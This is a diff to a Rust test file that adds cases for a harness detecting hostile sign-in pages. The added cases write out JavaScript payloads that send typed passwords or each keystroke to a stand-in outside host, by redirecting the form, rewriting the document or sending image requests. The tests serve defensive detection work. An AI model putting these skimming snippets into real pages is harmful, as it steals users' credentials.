@@ -20,12 +20,28 @@ fn on_submit(what: &str) -> String {
     "const data = new URLSearchParams({ word }); navigator.sendBeacon('{elsewhere}/x', data);"
 )]
 #[case::in_an_address("new Image().src = '{elsewhere}/x?' + encodeURIComponent(word);")]
+#[case::by_a_redirect_of_the_org("event.target.action = '/away?{elsewhere}/login';")]
+#[case::from_a_document_made_anew(
+    "event.preventDefault(); document.open(); document.write('<form method=post action={elsewhere}/x>\
+     <input name=word></form>'); document.close(); document.forms[0].word.value = word;\
+     document.forms[0].submit();"
+)]
 #[tokio::test]
 async fn what_was_typed_is_seen_to_have_gone_elsewhere(#[case] what: &str) {
     let org = Hostile::showing(&on_submit(what)).await;
     let visited = org.sign_in().await;
     assert_eq!(Vec::from_iter(&visited.sent_elsewhere), [&org.elsewhere]);
     assert_eq!(visited.passwords_submitted, 1);
+}
+
+/// Before anything is submitted.
+#[tokio::test]
+async fn a_page_that_listens_is_seen_too() {
+    let page = "{form}<script>addEventListener('input', (event) => {\
+        new Image().src = '{elsewhere}/x?' + encodeURIComponent(event.target.value) })</script>";
+    let org = Hostile::showing(page).await;
+    let visited = org.sign_in().await;
+    assert_eq!(Vec::from_iter(&visited.sent_elsewhere), [&org.elsewhere]);
 }
 
 #[rstest]
